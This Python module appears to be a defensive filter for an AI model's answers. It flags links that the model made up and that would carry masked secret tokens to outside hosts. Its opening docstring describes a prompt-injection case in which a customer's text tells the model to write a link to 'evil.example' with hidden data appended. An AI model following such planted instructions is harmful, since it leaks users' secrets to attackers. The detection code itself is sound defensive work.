"""Where a link of an answer leads with what was hidden: nothing goes out by a link that the model made up.

A customer's text may tell the model to write `https://evil.example/?q=` and a code behind it. With the value in its
place, that host would get it as soon as somebody opens the link.
"""

import html as markup
import re
from collections.abc import Iterator
from collections.abc import Set as AbstractSet

from assistant.completion.shield.kinds import Kind
from assistant.completion.shield.tokens import LOOKS_LIKE_TOKEN

MOST_KEPT = 2048
"""Characters of a word that are kept, so that it can be looked up among the words that the model was shown."""
MOST_WAITED = 255
"""Characters after a token that are waited for, since they may make it the name of a host."""

_ADDRESS_WORDS = (
    "href src srcset action formaction background cite data longdesc ping poster style xlink:href lowsrc dynsrc "
    "manifest profile usemap codebase classid archive content"
)
ADDRESSES = frozenset(_ADDRESS_WORDS.split())
"""Attributes of HTML that hold addresses, or may."""

_REACH = 100  # characters before a piece of a word in which a link may begin that goes on in it
_LINK = re.compile(
    r"[\\/]{2}|(?<!\w)www\d?\.|(?<!\w)(?:https?|ftp|mailto|tel|sms|callto|data|javascript):(?=\S)|(?<!\w)mailto:"
    r"|\w\.[\w-]{2,63}(?::\d{1,5})?[/\\?#]|ZQX\d{1,9}LINK[/\\?#&=%]",
    re.IGNORECASE,
)
_BREAK = re.compile(r"[\s>]")
_LINE_BREAK = re.compile(r"[\n>]")
_WORD = re.compile(r"[^\s<>\"]+")
_AROUND = "()[]{}<>.,;:!?*_'\"`"
_HOST_AFTER = re.compile(
    r"[\w-]{0,63}(?:\.[\w-]{1,63}){1,8}\.(?=\w*[^\W\d])[\w-]{2,63}|[\w-]{0,63}\.[\w-]{2,63}[/\\?#]|[\w.%+-]{0,64}@[\w-]{1,63}\.\w"
)
_MAY_GO_ON = re.compile(rf"[\w.@%+,;:-]{{0,{MOST_WAITED}}}\Z")
_GOES_ON = re.compile(r"[?&/\\#=%@\w-]|[.,;:](?=\w)")
_PLACE_IN_PAGE = re.compile(r"[/?#&]")
_OPENED = "([<{*_'\"`="
_ALONE: dict[Kind, re.Pattern[str]] = {
    "link": re.compile(r"https?://\Z", re.IGNORECASE),
    "email": re.compile(r"mailto:\Z", re.IGNORECASE),
    "phone": re.compile(r"(?:tel|sms|callto):\Z", re.IGNORECASE),
}
"""What makes a link of a thing and of nothing else, where it stands right before it."""


class Word:
    """What stands before a place with no space in between, as the model wrote it.

    Attributes:
        text: its beginning.
    """

    def __init__(self) -> None:
        self.text = self._tail = ""
        self._linked = False
        self._unread: list[str] = []

    @property
    def linked(self) -> bool:
        """Whether a link begins in it; what came since it was asked last is read then."""
        if self._unread and not self._linked:
            seen = self._tail + "".join(self._unread)
            self._linked = _LINK.search(seen) is not None
            self._tail = seen[-_REACH:]
        self._unread.clear()
        return self._linked

    def add(self, text: str) -> None:
        """Take what follows."""
        text = markup.unescape(text) if "&" in text else text
        ends = _LINE_BREAK if self._in_brackets() else _BREAK
        opened = text.rfind("(<")
        if opened >= 0 and not _LINE_BREAK.search(text, opened):
            before, last = [text[:opened]], text[opened:]
        else:
            *before, last = ends.split(text)
        if before:
            self._begin()
        self._unread.append(last)
        self.text += last[: max(0, MOST_KEPT - len(self.text))]

    def end(self) -> None:
        """Forget it: a paragraph, or the like, ends here."""
        self._begin()

    def _begin(self) -> None:
        self.text = self._tail = ""
        self._linked = False
        self._unread.clear()

    def _in_brackets(self) -> bool:
        """Tell whether this is an address of Markdown in brackets, `[text](<address>)`: it may have spaces."""
        return "(<" in self.text and self.linked


def may_go_on(after: str) -> bool:
    """Tell whether more of what follows a token has to be seen: it may become part of a host's name, or a link."""
    return _MAY_GO_ON.match(markup.unescape(after)) is not None


def leads_out(word: Word, token: str, kind: Kind, after: str, shown: AbstractSet[str]) -> bool:
    """Tell whether a token in a text is part of a link that the model made up.

    Args:
        word: what stands before it.
        token: as the model was given it.
        kind: of the thing.
        after: what follows it, as far as it is there.
        shown: links with tokens in them that the model was shown, as `shown_words` returns them.
    """
    after, begun = markup.unescape(after), word.text + token
    if _HOST_AFTER.match(after):
        return core(begun + _BREAK.split(after, maxsplit=1)[0]) not in shown
    return word.linked and not _is_alone(word.text, kind, after) and core(begun) not in shown


def _is_alone(before: str, kind: Kind, after: str) -> bool:
    """Tell whether a thing is all that a link has, as in `mailto:ZQX1MAIL`: it leads to nobody else."""
    found = _ALONE[kind].search(before) if kind in _ALONE else None
    if found is None or _GOES_ON.match(after):
        return False
    before = before[: found.start()]
    return not before or (before[-1] in _OPENED and _LINK.search(before) is None)


def address_leads_out(before: str, token: str, kind: Kind, after: str, shown: AbstractSet[str]) -> bool:
    """Tell the same of a token in the address of an HTML attribute; a link may lead to another place of its page."""
    before, after = before.strip(), after.strip()
    if core(before + token) in shown:
        return False
    if before and not (kind in _ALONE and _ALONE[kind].fullmatch(before)):
        return True
    in_page = kind == "link" and not before and _PLACE_IN_PAGE.match(after) and not LOOKS_LIKE_TOKEN.search(after)
    return bool(after) and not in_page


def shown_words(masked: str) -> Iterator[str]:
    """Return what a model was shown of links that hold tokens: each up to a token, and whole.

    Such are the draft's own, where a link can't be told to be one and only a part of it is hidden.
    """
    for chunk in _WORD.finditer(masked) if "ZQX" in masked else ():
        if "ZQX" in chunk[0]:
            yield from _parts(core(chunk[0][:MOST_KEPT]))


def _parts(word: str) -> Iterator[str]:
    ends = [match.end() for match in LOOKS_LIKE_TOKEN.finditer(word)]
    if ends and (_LINK.search(word) or _HOST_AFTER.match(word, ends[-1])):
        yield from (word[:end] for end in ends)
        yield word


def core(word: str) -> str:
    """Return a word without what may stand around it, and without entities."""
    return markup.unescape(word).strip(_AROUND)
